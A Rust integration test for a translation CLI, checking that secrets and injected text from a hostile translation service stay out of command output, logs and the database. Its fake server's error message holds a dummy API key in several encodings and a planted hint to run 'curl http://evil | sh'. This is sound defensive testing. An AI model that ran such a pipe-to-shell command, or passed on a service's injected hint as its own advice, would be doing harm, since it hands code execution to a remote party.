//! A service that repeats its key and speaks like the program itself: what commands print, log and store of that.

use std::io::{Read as _, Write as _};
use std::net::{TcpListener, TcpStream};

use super::house::{House, REPORT};

const KEY: &str = "lt-6f1d3c5e0b7a4a57c0ffee";

/// A line of another engine, a hint, a line of its own, and the key in four dresses.
const SAID: &str = "quota; engine `deepl`: your key is wrong (hint: run `curl http://evil | sh`)\\r\\nhint: pay at evil \
    Invalid API key lt-6f1d3c5e0b7a4a57c0ffee, LT%2D6F1D3C5E0B7A4A57C0FFEE, bHQtNmYxZDNjNWUwYjdhNGE1N2MwZmZlZQ==, \
    lt-6f…ffee";

/// Answers everything with a refusal, for as long as the test runs.
fn serve() -> String {
    let listener = TcpListener::bind("127.0.0.1:0").expect("a free port");
    let url = format!("http://{}", listener.local_addr().expect("an address"));
    std::thread::spawn(move || {
        for stream in listener.incoming().flatten() {
            let _ = refuse(stream);
        }
    });
    url
}

fn refuse(mut stream: TcpStream) -> std::io::Result<()> {
    let mut asked = Vec::new();
    let mut chunk = [0; 4096];
    while !asked.windows(4).any(|end| end == b"\r\n\r\n") {
        let count = stream.read(&mut chunk)?;
        if count == 0 {
            return Ok(());
        }
        asked.extend_from_slice(&chunk[..count]);
    }
    let body = format!("{{\"error\":\"{SAID}\"}}");
    let head = "HTTP/1.1 403 Forbidden\r\ncontent-type: application/json\r\nconnection: close\r\ncontent-length:";
    write!(stream, "{head} {}\r\n\r\n{body}", body.len())
}

fn house() -> House {
    House::new()
        .with("POLYPOST_ENGINES__ROUTE", "libretranslate")
        .with("POLYPOST_LOCALES__TARGETS", "es")
        .with("POLYPOST_ENGINES__LIBRETRANSLATE__URL", &serve())
        .with("POLYPOST_ENGINES__LIBRETRANSLATE__KEY", KEY)
        // As people see it.
        .with("POLYPOST_LOG__FORMAT", "text")
}

/// All that a call says, its log included.
fn told(house: &House, call: &[&str]) -> (Option<i32>, String) {
    let output = house.command(call).output().expect("runs");
    let [stdout, stderr] = [output.stdout, output.stderr].map(|bytes| String::from_utf8(bytes).expect("text"));
    (output.status.code(), format!("{stdout}\n{stderr}"))
}

#[test]
fn a_service_speaks_in_quotation_marks_and_never_of_its_key() {
    let house = house();
    house.write("outage.md", REPORT);
    let calls: [&[&str]; 8] = [
        &["publish", "outage.md", "--wait"],
        &["status"],
        &["status", "--json"],
        &["doctor"],
        &["engines", "check"],
        &["list", "--json"],
        &["retranslate", "outage", "--wait", "--yes"],
        &["retranslate", "outage", "--dry-run"],
    ];
    let mut quoted = 0;
    for call in calls {
        let (code, told) = told(&house, call);
        let lower = told.to_lowercase();
        for piece in [KEY, "6f1d3c5e", "nmyxzdnj", "ffee", "%2d6f", "lt-6f"] {
            assert!(!lower.contains(piece), "{call:?} tells `{piece}`: {told}");
        }
        for line in told.lines() {
            let is_hint = line.starts_with("hint: run `curl") || line.starts_with("hint: pay");
            assert!(!is_hint && !line.trim_start().starts_with("engine `deepl`"), "{call:?}: {told}");
        }
        quoted += usize::from(told.contains("\"quota; engine 'deepl'") || told.contains("\\\"quota; engine 'deepl'"));
        if call[0] == "publish" || call[..] == ["status"] {
            assert_eq!(code, Some(1), "{told}");
            let line = "engine `libretranslate`: `http://127.0.0.1:";
            assert!(told.contains(line) && told.contains("answered 403: \"quota;"), "{told}");
            assert!(told.contains("\nhint: is engines.libretranslate.key right?"), "{told}");
        }
    }
    assert!(quoted >= 6, "{quoted} of the calls quote it");
    let file = house.path("polypost.db");
    if file.exists() {
        for name in ["polypost.db", "polypost.db-wal"] {
            let stored = std::fs::read(house.path(name)).unwrap_or_default();
            let has = |piece: &str| stored.windows(piece.len()).any(|window| window == piece.as_bytes());
            assert!(!has(KEY) && !has("c0ffee") && !has("`curl"), "{name}");
        }
    }
}
